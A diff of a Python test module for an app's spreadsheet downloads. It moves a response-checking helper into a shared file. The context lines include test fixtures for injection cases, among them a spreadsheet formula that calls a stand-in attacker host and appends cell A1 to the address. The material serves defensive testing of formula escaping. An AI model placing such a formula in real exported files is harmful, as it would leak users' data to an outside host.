@@ -34,6 +34,7 @@ from werkzeug.http import parse_options_header
 from app.services.sheet_downloads import COLUMNS
 from app.extensions import db
 from app.models import (BudgetItem, Community, Expense, JournalEntry, Member, Period, Posting)
+from tests.helpers import page_ok as ok
 from tests.conftest import PASSWORD, Api, login, signup
 
 # Short enough for the columns (a category holds 80 characters, a name 120).
@@ -43,11 +44,6 @@ INJECTION = OPEN_INJECTION + "\n" + TX_INJECTION
 CJK_NAME = '山田 "Taro" \\ ;'
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def ok(response, status=200):
-    assert response.status_code == status, response.get_data(as_text=True)[:800]
-    return response
 
 
 def one_line(text: str) -> str:
